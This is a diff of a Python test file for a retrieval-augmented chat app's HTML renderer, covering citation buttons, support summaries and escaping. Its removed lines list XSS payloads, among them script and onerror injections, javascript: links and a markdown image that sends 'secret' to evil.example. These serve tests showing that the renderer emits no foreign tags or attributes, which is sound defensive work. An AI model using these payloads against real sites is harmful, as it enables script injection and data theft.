@@ -3,80 +3,14 @@
 from __future__ import annotations
 
 import re
-from dataclasses import replace
-from html.parser import HTMLParser
 
 import pytest
+from hostile import HOSTILE
 from markdown_it import MarkdownIt
+from page_values import PAGE, Tags, answer, citation
 
-from rag_chat.render import (
-    answer_html,
-    answer_markdown,
-    answer_text,
-    passages_html,
-    seconds_text,
-    sources_html,
-    visible,
-)
-from rag_chat.types import Answer, Candidate, Chunk, Citation, Passage, Sentence, Span
-
-PAGE = "Tides rise twice a day. The pump lifts 40 litres \na minute. It needs oil."
-QUOTE = "The pump lifts 40 litres \na minute."
-START = PAGE.index(QUOTE)
-
-HOSTILE = [
-    "<img src=x onerror=alert(1)>",
-    "</details><script>alert(1)</script>",
-    '" onmouseover="alert(1)',
-    "' onfocus='alert(1)",
-    "<a href='javascript:alert(1)'>x</a>",
-    "![](https://evil.example/?q=secret)",
-    "[click](javascript:alert(1))",
-    "<style>body{display:none}</style>",
-    "{{constructor}} ${alert(1)} {0} {document}",
-    "&lt;script&gt;",
-]
-
-
-def passage(number: int = 1, document: str = "pump.pdf", text: str = PAGE, heading: str = "2 Pumps") -> Passage:
-    chunk = Chunk(f"c{number}", "a" * 64, number, (Span(4, 0, len(text)),), heading, text)
-    return Passage(number, Candidate(chunk, document, "iv", number, 0.934, 14, 0.412))
-
-
-def citation(**changes) -> Citation:
-    made = Citation(1, "pump.pdf", "a" * 64, 4, "iv", QUOTE, START, START + len(QUOTE), ((1, 2, 3, 4),), 0.9, True)
-    return replace(made, **changes)
-
-
-def answer(**changes) -> Answer:
-    text = "The pump lifts 40 litres a minute. [1]"
-    sentences = (Sentence("The pump lifts 40 litres a minute.", 0, True),)
-    made = Answer(
-        "How much?", "How much?", text, False, sentences, (citation(),), (passage(), passage(2, text="Other."))
-    )
-    return replace(made, **changes)
-
-
-def url(shown) -> str:
-    return "/pages/x.png?start=1&end=2"
-
-
-class Tags(HTMLParser):
-    """Every tag with its attributes, and whether each is closed."""
-
-    def __init__(self, html: str) -> None:
-        super().__init__()
-        self.seen: list[tuple[str, dict[str, str | None]]] = []
-        self.open: list[str] = []
-        self.feed(html)
-
-    def handle_starttag(self, tag, attrs):
-        self.seen.append((tag, dict(attrs)))
-        if tag != "img":
-            self.open.append(tag)
-
-    def handle_endtag(self, tag):
-        assert self.open.pop() == tag, f"</{tag}> closes something else"
+from rag_chat.render import answer_html, answer_markdown, answer_text, seconds_text, support_text, visible
+from rag_chat.types import Excerpt, Sentence
 
 
 def test_marker_becomes_a_button_that_names_its_source_and_card():
@@ -99,86 +33,67 @@ def test_two_sentences_of_one_passage_point_at_their_own_quotes():
     both = answer(text=text, sentences=sentences, citations=(citation(), second))
     buttons = [attributes["data-citation"] for tag, attributes in Tags(answer_html(both)).seen if tag == "button"]
     assert buttons == ["0", "1"]
-    assert sources_html(both, url).count("<mark") == 2
 
 
-def test_unsupported_sentence_is_marked_and_only_that_one():
-    text = "It is blue. The pump lifts 40 litres a minute. [1]"
-    sentences = (Sentence("It is blue.", None, False), Sentence("The pump lifts 40 litres a minute.", 0, True))
-    html = answer_html(answer(text=text, sentences=sentences))
-    assert html.count('class="unsupported"') == 1
-    assert ">It is blue.</span>" in html
+def test_what_is_not_found_and_what_is_carried_in_part_say_so_and_nothing_else_does():
+    text = "It is blue. The pump lifts 40 litres a minute. [1] It lifts a lot. [1]"
+    sentences = (
+        Sentence("It is blue.", None, False),
+        Sentence("The pump lifts 40 litres a minute.", 0, True),
+        Sentence("It lifts a lot.", 1, False),
+    )
+    doubtful = answer(text=text, sentences=sentences, citations=(citation(), citation(supported=False)))
+    html = answer_html(doubtful)
+    assert '<span class="missing">It is blue.</span><span class="doubted"> not found in its source</span>' in html
+    assert html.count('class="weak"') == html.count(">It lifts a lot. <button") == 1
+    assert html.index("It lifts a lot.") < html.index("weakly supported</span>")  # after the sentence and its marker
+    assert html.count('class="doubted"') == 2
 
 
-def test_source_card_shows_document_page_ranks_scores_verdict_and_marked_quote():
-    html = sources_html(answer(), url, turn=2)
-    for part in (
-        "pump.pdf",
-        "page iv (4 of the file)",
-        "rank 14 → 1",
-        "first stage 0.412",
-        "final 0.93",
-        ">supported<",
-    ):
-        assert part in html
-    assert "Tides rise twice a day. <mark" in html
-    assert ">The pump lifts 40 litres a minute.</mark> It needs oil." in html
-    assert 'id="source-2-1"' in html
-    assert 'data-src="/pages/x.png?start=1&amp;end=2"' in html
-    assert " src=" not in html  # nothing loads before a card is opened
+@pytest.mark.parametrize(
+    ("verdicts", "said"),
+    [
+        ("s", "1 of 1 sentence is supported by 1 passage of 1 document."),
+        ("ss", "2 of 2 sentences are supported by 1 passage of 1 document."),
+        ("sw", "1 of 2 sentences are supported by 1 passage of 1 document; 1 is weakly supported."),
+        (
+            "swmm",
+            "1 of 4 sentences are supported by 1 passage of 1 document; 1 is weakly supported;"
+            " 2 are not found in its source.",
+        ),
+        ("m", "0 of 1 sentence is supported; 1 is not found in its source."),
+    ],
+)
+def test_support_is_summed_up(verdicts, said):
+    made = {"s": Sentence("x.", 0, True), "w": Sentence("x.", 0, False), "m": Sentence("x.", None, False)}
+    assert support_text(answer(sentences=tuple(made[verdict] for verdict in verdicts))) == said
 
 
-def test_passages_that_are_not_cited_are_folded():
-    html = sources_html(answer(), url)
-    assert "Also retrieved (1)" in html
-    assert html.index("Also retrieved") < html.index("Other.")
+def test_passages_and_documents_are_counted_once():
+    citations = (citation(), citation(number=2), citation(number=3, doc_id="b" * 64), citation(number=1, start=1))
+    sentences = tuple(Sentence("x.", place, True) for place in range(4))
+    said = support_text(answer(sentences=sentences, citations=citations))
+    assert said == "4 of 4 sentences are supported by 3 passages of 2 documents."
+    assert support_text(answer(abstained=True)) == ""
 
 
-def test_abstention_shows_the_nearest_passages_unfolded():
-    html = sources_html(answer(abstained=True, citations=(), sentences=(), text="They do not say."), url)
-    assert "nearest passages" in html
-    assert "Also retrieved" not in html
-    assert html.count('class="card"') == 2
-
-
-def test_quote_that_is_not_in_its_passage_is_shown_apart_and_never_marked_elsewhere():
-    html = sources_html(answer(citations=(citation(page=5),)), url)
-    assert 'class="apart"' in html
-    assert html.count("<mark") == 1
-
-
-def test_quote_without_boxes_says_so():
-    assert "cannot be boxed exactly" in sources_html(answer(citations=(citation(boxes=()),)), url)
-    assert "cannot be boxed" not in sources_html(answer(), url)
-
-
-def test_rank_of_a_candidate_that_stage_one_did_not_return():
-    bare = replace(passage().candidate, stage1_rank=None, stage1_score=None)
-    html = passages_html([Passage(1, bare)], url)
-    assert "rank – → 1" in html
-    assert "not in its list" in html
+def test_marker_carries_what_is_shown_beside_it():
+    rest = Excerpt(5, "v", "and needs oil.", 0, 14, ())
+    button = Tags(answer_html(answer(citations=(citation(continued=(rest,)),)))).all("button")[0]
+    assert button["data-quote"] == "The pump lifts 40 litres a minute. and needs oil."
+    assert button["data-where"] == "page iv (4 of the file), page v (5 of the file)"
+    assert (button["data-document"], button["data-verdict"]) == ("pump.pdf", "supported")
 
 
 @pytest.mark.parametrize("bad", HOSTILE)
 def test_nothing_foreign_becomes_a_tag_or_an_attribute(bad):
-    text = f"{PAGE} {bad}"
-    hostile = answer(
-        question=bad,
-        text=f"{bad} [1]",
-        sentences=(Sentence(bad, 0, False),),
-        citations=(citation(document=bad, page_label=bad, quote=text, start=0, end=len(text)),),
-        passages=(passage(document=bad, text=text, heading=bad), passage(2, document=bad, text=bad, heading=bad)),
-    )
-    allowed = {"div", "span", "button", "section", "details", "summary", "p", "blockquote", "mark", "figure", "img",
-               "figcaption"}  # fmt: skip
-    for html in (answer_html(hostile), sources_html(hostile, url), passages_html(hostile.passages, url)):
-        tags = Tags(html)
-        assert not tags.open
-        assert {tag for tag, _ in tags.seen} <= allowed
-        assert not [
-            name for _, attributes in tags.seen for name in attributes if name.startswith("on") or name == "href"
-        ]
-        assert not [attributes for tag, attributes in tags.seen if tag == "img" and "src" in attributes]
+    quote = f"{PAGE} {bad}"
+    cited = citation(document=bad, page_label=bad, quote=quote, start=0, end=len(quote))
+    hostile = answer(question=bad, text=f"{bad} [1]", sentences=(Sentence(bad, 0, False),), citations=(cited,))
+    tags = Tags(answer_html(hostile))
+    assert not tags.open
+    assert {tag for tag, _ in tags.seen} <= {"div", "span", "button"}
+    assert not [name for _, attributes in tags.seen for name in attributes if name.startswith("on") or name == "href"]
 
 
 @pytest.mark.parametrize("bad", [*HOSTILE, "http://evil.example www.evil.example a@evil.example", "# h\n- [ ] x\n> q"])
